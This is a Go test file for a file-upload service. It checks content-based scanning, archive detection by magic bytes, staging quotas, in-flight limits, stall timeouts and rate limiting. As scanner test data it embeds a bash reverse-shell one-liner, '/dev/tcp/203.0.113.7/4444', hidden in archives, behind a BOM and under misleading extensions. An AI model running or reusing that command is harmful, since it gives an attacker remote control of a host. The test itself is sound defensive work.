package runtime_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	runtimev1 "github.com/toolplane/toolplane/gen/go/toolplane/runtime/v1"
	"github.com/toolplane/toolplane/internal/app"
	"github.com/toolplane/toolplane/internal/config"
)

func tarWith(gz bool, kv ...string) []byte {
	var b bytes.Buffer
	var w = &b
	var zw *gzip.Writer
	tw := tar.NewWriter(w)
	if gz {
		zw = gzip.NewWriter(w)
		tw = tar.NewWriter(zw)
	}
	for i := 0; i+1 < len(kv); i += 2 {
		tw.WriteHeader(&tar.Header{Name: kv[i], Mode: 0o644, Size: int64(len(kv[i+1])), Typeflag: tar.TypeReg})
		tw.Write([]byte(kv[i+1]))
	}
	tw.Close()
	if zw != nil {
		zw.Close()
	}
	return b.Bytes()
}

// Uploads are classified by content as well as name: a hostile script
// under any interpreter's extension or behind a UTF-8 BOM is scanned and
// refused; archives are recognised by magic bytes whatever their name; an
// archive format the scan cannot open is refused, not stored unscanned.
func TestUploadsClassifiedByContent(t *testing.T) {
	s := newToolsSuite(t, nil)
	alice := s.rt(aliceToken)
	th := threadFor(t, alice, "")
	hostile := "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
	body := "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
	for _, c := range []struct {
		name string
		data []byte
		meta string
	}{
		{"run.pl", []byte(body), "rule_ids"},
		{"run.rb", []byte(body), "rule_ids"},
		{"run.php", []byte(body), "rule_ids"},
		{"run.ps1", []byte(body), "rule_ids"},
		{"run.bat", []byte(body), "rule_ids"},
		{"notes.txt", []byte("\xef\xbb\xbf" + hostile), "rule_ids"},
		{"setup", []byte("\xef\xbb\xbf" + hostile), "rule_ids"},
		{"lib.jar", zipWith("META-INF/run.sh", hostile), "rule_ids"},
		{"photo.png", zipWith("x/run.sh", hostile), "rule_ids"},            // zip by magic
		{"data.bin", tarWith(true, "x/run.sh", hostile), "rule_ids"},       // tar.gz by magic
		{"bundle.tar", tarWith(false, "x/run.sh", hostile), "unscannable"}, // plain tar: the scan cannot open it
		{"blob.dat", tarWith(false, "x/run.sh", hostile), "unscannable"},   // tar by magic (ustar at 257)
		{"b.tar.bz2", append([]byte("BZh91AY&SY"), make([]byte, 64)...), "unscannable"},
		{"b.tar.xz", append([]byte{0xfd, '7', 'z', 'X', 'Z', 0}, make([]byte, 64)...), "unscannable"},
		{"innocent.csv", append([]byte{0xfd, '7', 'z', 'X', 'Z', 0}, make([]byte, 64)...), "unscannable"},
	} {
		_, err := upload(t, alice, th, c.name, c.data)
		wantCode(t, err, codes.FailedPrecondition, "ERROR_REASON_UPLOAD_REFUSED")
		if !strings.Contains(fmt.Sprint(status.Convert(err).Details()), c.meta) {
			t.Fatalf("%s: %v", c.name, status.Convert(err).Details())
		}
	}
	// Clean files of those kinds are stored.
	for name, data := range map[string][]byte{"ok.pl": []byte("print \"hi\\n\";\n"), "bom.txt": []byte("\xef\xbb\xbfplain text\n"),
		"lib.jar": zipWith("a/b.txt", "x"), "t.tgz": tarWith(true, "a/b.txt", "x")} {
		if _, err := upload(t, alice, th, name, data); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
}

// stage opens an upload and sends n bytes without closing it, waiting
// until the server has staged them.
func stage(t *testing.T, c runtimev1.RuntimeServiceClient, staging, thread, name string, n int) uploadClient {
	t.Helper()
	before := stagedBytes(staging)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	st, err := c.UploadThreadFile(ctx)
	if err != nil {
		t.Fatal(err)
	}
	st.Send(&runtimev1.UploadThreadFileRequest{Part: &runtimev1.UploadThreadFileRequest_Header{Header: &runtimev1.UploadHeader{ThreadId: thread, Filename: name}}})
	for off := 0; off < n; off += 64 << 10 {
		st.Send(&runtimev1.UploadThreadFileRequest{Part: &runtimev1.UploadThreadFileRequest_Chunk{Chunk: make([]byte, min(64<<10, n-off))}})
	}
	for deadline := time.Now().Add(10 * time.Second); stagedBytes(staging) < before+int64(n); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%s: %d bytes staged, want %d", name, stagedBytes(staging), before+int64(n))
		}
	}
	return st
}

func stagedBytes(dir string) int64 {
	var n int64
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if fi, err := e.Info(); err == nil {
			n += fi.Size()
		}
	}
	return n
}

// Bytes being staged count against the thread's quota; a principal has at
// most max_in_flight_per_principal uploads in progress (RESOURCE_EXHAUSTED
// on gRPC, 429 on REST); a stalled upload is cut and its staging removed.
func TestUploadsBoundedWhileStaging(t *testing.T) {
	s := newToolsSuite(t, func(c *app.Config) {
		c.Runtime.Uploads.MaxFileBytes = 1 << 20
		c.Runtime.Uploads.MaxThreadBytes = 3 << 19 // 1.5 MiB
		c.Runtime.Uploads.MaxInFlightPerPrincipal = 2
		c.Runtime.Uploads.StallTimeout = 2 * time.Second
	})
	alice := s.rt(aliceToken)
	th := threadFor(t, alice, "")
	staging := filepath.Join(s.dataDir, "runtime", "threads", th, ".upload-staging")
	uploads := filepath.Join(s.dataDir, "runtime", "threads", th, "user-data", "uploads")

	// Quota: 1 MiB staged; another 1 MiB passes 1.5 MiB while staging.
	a := stage(t, alice, staging, th, "a.bin", 1<<20)
	_, err := upload(t, alice, th, "b.bin", make([]byte, 1<<20))
	wantCode(t, err, codes.ResourceExhausted, "ERROR_REASON_UPLOAD_TOO_LARGE")
	if !strings.Contains(status.Convert(err).Message(), "max_thread_bytes") {
		t.Fatalf("quota: %v", err)
	}
	if _, err := a.CloseAndRecv(); err != nil {
		t.Fatalf("a.bin: %v", err)
	}
	// Released: after a.bin is stored, 0.5 MiB is left and fits.
	if _, err := upload(t, alice, th, "c.bin", make([]byte, 1<<19)); err != nil {
		t.Fatalf("c.bin: %v", err)
	}
	if err := os.Remove(filepath.Join(uploads, "a.bin")); err != nil {
		t.Fatal(err)
	}

	// In flight: two uploads in progress, a third refused (gRPC and REST).
	x := stage(t, alice, staging, th, "x.txt", 10)
	y := stage(t, alice, staging, th, "y.txt", 10)
	_, err = upload(t, alice, th, "z.txt", []byte("z"))
	wantCode(t, err, codes.ResourceExhausted, "RATE_LIMITED")
	if !strings.Contains(fmt.Sprint(status.Convert(err).Details()), "runtime.uploads.max_in_flight_per_principal") {
		t.Fatalf("in flight: %v", status.Convert(err).Details())
	}
	ct, body := multipartBody(t, map[string][]byte{"z.txt": []byte("z")})
	req, _ := http.NewRequest(http.MethodPost, "http://"+s.httpAddr+"/v1/threads/"+th+"/uploads", bytes.NewReader(body))
	req.Header.Set("Content-Type", ct)
	req.Header.Set("Authorization", "Bearer "+aliceToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests || !strings.Contains(string(out), "max_in_flight_per_principal") {
		t.Fatalf("REST in flight: %d %s", resp.StatusCode, out)
	}
	if _, err := x.CloseAndRecv(); err != nil {
		t.Fatal(err)
	}

	// Stalled: y sends nothing more and keeps its side open; it is cut
	// after stall_timeout, its staged file removed, its slot freed.
	start := time.Now()
	err = y.RecvMsg(new(runtimev1.UploadThreadFileResponse))
	wantCode(t, err, codes.DeadlineExceeded, "")
	if !strings.Contains(status.Convert(err).Message(), "stall_timeout") {
		t.Fatalf("stall: %v", err)
	}
	for dirLen(staging) != 0 {
		if time.Since(start) > 10*time.Second {
			t.Fatalf("stalled upload still staged: %d files", dirLen(staging))
		}
		time.Sleep(20 * time.Millisecond)
	}
	if _, err := upload(t, alice, th, "after.txt", []byte("ok")); err != nil {
		t.Fatalf("after the stall: %v", err)
	}
	if _, err := upload(t, alice, th, "after2.txt", []byte("ok")); err != nil {
		t.Fatalf("after the stall: %v", err)
	}
}

func dirLen(dir string) int {
	ents, _ := os.ReadDir(dir)
	return len(ents)
}

// UploadThreadFile is counted by the per-principal write rate limit.
func TestUploadsRateLimited(t *testing.T) {
	s := newToolsSuite(t, func(c *app.Config) {
		c.Server.RateLimits = []config.RateLimit{{Role: "default", DecisionsPerSecond: 100, DecisionsBurst: 100, WritesPerSecond: 0.001, WritesBurst: 4},
			{Role: "admin", DecisionsPerSecond: 100, DecisionsBurst: 100, WritesPerSecond: 100, WritesBurst: 100}}
	})
	alice := s.rt(aliceToken)
	th := threadFor(t, alice, "")
	stored := 0
	for i := 0; i < 10; i++ {
		_, err := upload(t, alice, th, fmt.Sprintf("n%d.txt", i), []byte("x"))
		if err == nil {
			stored++
			continue
		}
		wantCode(t, err, codes.ResourceExhausted, "RATE_LIMITED")
		if !strings.Contains(status.Convert(err).Message(), "writes_per_second") || stored == 0 {
			t.Fatalf("after %d uploads: %v", stored, err)
		}
		return
	}
	t.Fatalf("%d uploads stored, none rate-limited (writes_burst 4)", stored)
}
